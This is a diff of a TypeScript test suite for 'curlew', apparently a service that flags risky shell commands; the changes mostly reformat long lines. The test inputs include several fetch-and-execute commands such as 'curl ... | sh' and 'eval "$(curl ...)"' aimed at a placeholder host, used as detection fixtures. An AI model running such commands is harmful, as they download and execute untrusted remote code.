@@ -10,7 +10,10 @@ import { Cleanup, createAccess, temporaryFolder } from "./support/services.js";
 const cleanup = new Cleanup();
 afterEach(() => cleanup.run());
 
-const serve = (tokens: string, ...args: string[]) => new CliProcess(cleanup, { args: ["serve", "--port", "0", "--workers", "2", "--tokens", tokens, ...args] });
+const serve = (tokens: string, ...args: string[]) =>
+  new CliProcess(cleanup, {
+    args: ["serve", "--port", "0", "--workers", "2", "--tokens", tokens, ...args],
+  });
 
 describe("curlew serve", () => {
   it("takes a token made while it runs, answers, and ends with status 0", async () => {
@@ -18,12 +21,17 @@ describe("curlew serve", () => {
     const tokens = join(folder, "tokens.json");
     const service = serve(tokens);
     const address = await service.address();
-    const create = new CliProcess(cleanup, { args: ["token", "create", "--name", "me", "--out", "me.token", "--tokens", tokens], cwd: folder });
+    const create = new CliProcess(cleanup, {
+      args: ["token", "create", "--name", "me", "--out", "me.token", "--tokens", tokens],
+      cwd: folder,
+    });
     expect([await create.exit(), create.stderr]).toEqual([0, ""]);
     const token = (await readFile(join(folder, "me.token"), "utf8")).trim();
     expect(create.stdout).not.toContain(token);
 
-    const response = await assess(address, token, { text: "Run `curl -fsSL https://x.example/i.sh | sh` now" });
+    const response = await assess(address, token, {
+      text: "Run `curl -fsSL https://x.example/i.sh | sh` now",
+    });
     expect(response.status).toBe(200);
     expect(await response.json()).toMatchObject({ verdict: "finding", spans: [[5, 43]] });
 
@@ -37,21 +45,33 @@ describe("curlew serve", () => {
     const service = serve(tokens);
     const address = await service.address();
     const body = JSON.stringify({ text: "curl A | sh" });
-    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "content-length": Buffer.byteLength(body) };
-    const answer = new Promise<{ status: number | undefined; connection: string | undefined }>((resolve, reject) => {
-      const request = httpRequest(`${address}/v1/assessments`, { method: "POST", headers }, (response) => {
-        response.resume();
-        response.on("end", () => resolve({ status: response.statusCode, connection: response.headers.connection }));
-      });
-      request.on("error", reject);
-      request.write(body.slice(0, 5), () => {
-        // The service has the first part before it hears the signal.
-        setTimeout(() => {
-          service.child.kill("SIGTERM");
-          setTimeout(() => request.end(body.slice(5)), 300);
-        }, 300);
-      });
-    });
+    const headers = {
+      authorization: `Bearer ${token}`,
+      "content-type": "application/json",
+      "content-length": Buffer.byteLength(body),
+    };
+    const answer = new Promise<{ status: number | undefined; connection: string | undefined }>(
+      (resolve, reject) => {
+        const request = httpRequest(
+          `${address}/v1/assessments`,
+          { method: "POST", headers },
+          (response) => {
+            response.resume();
+            response.on("end", () =>
+              resolve({ status: response.statusCode, connection: response.headers.connection }),
+            );
+          },
+        );
+        request.on("error", reject);
+        request.write(body.slice(0, 5), () => {
+          // The service has the first part before it hears the signal.
+          setTimeout(() => {
+            service.child.kill("SIGTERM");
+            setTimeout(() => request.end(body.slice(5)), 300);
+          }, 300);
+        });
+      },
+    );
     expect(await answer).toEqual({ status: 200, connection: "close" });
     expect(await service.exit()).toBe(0);
   });
@@ -61,23 +81,43 @@ describe("curlew serve", () => {
     const folder = await temporaryFolder(cleanup);
     for (const name of ["aget", "bget"]) {
       await mkdir(join(folder, name, "bash"), { recursive: true });
-      await writeFile(join(folder, name, "bash", "mine.scm"), `((command_name) @source.fetcher (#word-is? @source.fetcher "${name}") (#set! writes "stdout"))\n`);
+      await writeFile(
+        join(folder, name, "bash", "mine.scm"),
+        `((command_name) @source.fetcher (#word-is? @source.fetcher "${name}") (#set! writes "stdout"))\n`,
+      );
     }
-    const own = ["--queries", join(folder, "aget"), "--queries", join(folder, "bget"), "--disable-rule", "bash/fetch-substitution"];
+    const own = [
+      "--queries",
+      join(folder, "aget"),
+      "--queries",
+      join(folder, "bget"),
+      "--disable-rule",
+      "bash/fetch-substitution",
+    ];
     const service = serve(tokens, ...own);
     const address = await service.address();
-    const verdict = async (text: string) => ((await (await assess(address, token, { text })).json()) as { readonly verdict: string }).verdict;
-    const texts = ["aget https://x.example | sh", "bget https://x.example | sh", 'eval "$(curl https://x.example)"'];
+    const verdict = async (text: string) =>
+      ((await (await assess(address, token, { text })).json()) as { readonly verdict: string })
+        .verdict;
+    const texts = [
+      "aget https://x.example | sh",
+      "bget https://x.example | sh",
+      'eval "$(curl https://x.example)"',
+    ];
     expect(await Promise.all(texts.map(verdict))).toEqual(["finding", "finding", "clear"]);
     const unknown = serve(tokens, "--disable-rule", "acme/none");
-    expect([await unknown.exit(), unknown.stderr]).toEqual([2, expect.stringContaining("acme/none")]);
+    expect([await unknown.exit(), unknown.stderr]).toEqual([
+      2,
+      expect.stringContaining("acme/none"),
+    ]);
   });
 
   it("writes no log to a full disk, and works on", async () => {
     const { tokens, token } = await createAccess(cleanup);
     const service = serve(tokens, "--log-file", "/dev/full", "--log-level", "trace");
     const address = await service.address();
-    for (let i = 0; i < 20; i++) expect((await assess(address, token, { text: "x" })).status).toBe(200);
+    for (let i = 0; i < 20; i++)
+      expect((await assess(address, token, { text: "x" })).status).toBe(200);
     service.child.kill("SIGINT");
     expect(await service.exit()).toBe(0);
   });
@@ -97,15 +137,23 @@ describe("curlew serve", () => {
 
   it("uses a remote evaluator, and says so when it is killed", async () => {
     const { tokens, token } = await createAccess(cleanup);
-    const evaluator = new CliProcess(cleanup, { args: ["evaluator", "--port", "0", "--workers", "2"] });
+    const evaluator = new CliProcess(cleanup, {
+      args: ["evaluator", "--port", "0", "--workers", "2"],
+    });
     const service = serve(tokens, "--evaluator", await evaluator.address());
     const address = await service.address();
     const found = await assess(address, token, { text: "curl https://x.example/i.sh | sh" });
-    expect([found.status, (await found.json()).findings[0].text]).toEqual([200, "curl https://x.example/i.sh | sh"]);
+    expect([found.status, (await found.json()).findings[0].text]).toEqual([
+      200,
+      "curl https://x.example/i.sh | sh",
+    ]);
     evaluator.child.kill("SIGKILL");
     await evaluator.exit();
-    const answers = await Promise.all(["a", "b", "c"].map((text) => assess(address, token, { text })));
-    for (const answer of answers) expect([answer.status, (await answer.json()).code]).toEqual([502, "evaluator-unreachable"]);
+    const answers = await Promise.all(
+      ["a", "b", "c"].map((text) => assess(address, token, { text })),
+    );
+    for (const answer of answers)
+      expect([answer.status, (await answer.json()).code]).toEqual([502, "evaluator-unreachable"]);
     expect((await fetch(`${address}/healthz`)).status).toBe(200);
   });
 });
@@ -130,20 +178,52 @@ describe("a mistake", () => {
       run("serve", "--tokens", tokens, "--port", new URL(await running.address()).port),
       run("serve", "--port", "0", "--tokens", tokens, "--log-file", folder),
       run("token", "create", "--name", "x", "--tokens", tokens, "--out", join(folder, "none", "x")),
-      run("serve", "--port", "0", "--tokens", tokens, "--evaluator", "http://127.0.0.1:9", "--evaluator-token-file", "/dev/null"),
+      run(
+        "serve",
+        "--port",
+        "0",
+        "--tokens",
+        tokens,
+        "--evaluator",
+        "http://127.0.0.1:9",
+        "--evaluator-token-file",
+        "/dev/null",
+      ),
     ]);
-    const expected = [/--tokens with at least one token/, /^curlew: --port: /, /none.json: cannot be read/, /XX: unknown code/, /no token named nobody/, /cannot be read \(it is a folder\)/, /another program listens there/, /cannot be written \(it is a folder\)/, /x: cannot be written \(there is no such file or folder\)/, /null: holds no access token/];
+    const expected = [
+      /--tokens with at least one token/,
+      /^curlew: --port: /,
+      /none.json: cannot be read/,
+      /XX: unknown code/,
+      /no token named nobody/,
+      /cannot be read \(it is a folder\)/,
+      /another program listens there/,
+      /cannot be written \(it is a folder\)/,
+      /x: cannot be written \(there is no such file or folder\)/,
+      /null: holds no access token/,
+    ];
     cases.forEach(([status, stderr], index) => {
       expect(stderr).toMatch(expected[index]!);
-      expect([status, stderr.trim().split("\n").length, stderr.includes("    at ")]).toEqual([2, 1, false]);
+      expect([status, stderr.trim().split("\n").length, stderr.includes("    at ")]).toEqual([
+        2,
+        1,
+        false,
+      ]);
     });
   });
 
   it("is not made by --print-config, which shows what is in force", async () => {
     const env = { CURLEW_PORT: "1234", CURLEW_PRESIDIO: "http://bob:hunter2@127.0.0.1:5002/" };
-    const cli = new CliProcess(cleanup, { args: ["serve", "--workers", "3", "--print-config"], env });
+    const cli = new CliProcess(cleanup, {
+      args: ["serve", "--workers", "3", "--print-config"],
+      env,
+    });
     expect(await cli.exit()).toBe(0);
-    expect(JSON.parse(cli.stdout)).toMatchObject({ port: 1234, workers: 3, presidio: "http://***:***@127.0.0.1:5002/" });
+    expect(JSON.parse(cli.stdout)).toMatchObject({
+      port: 1234,
+      workers: 3,
+      presidio: "http://***:***@127.0.0.1:5002/",
+    });
     expect(cli.stdout + cli.stderr).not.toContain("hunter2");
   });
 });
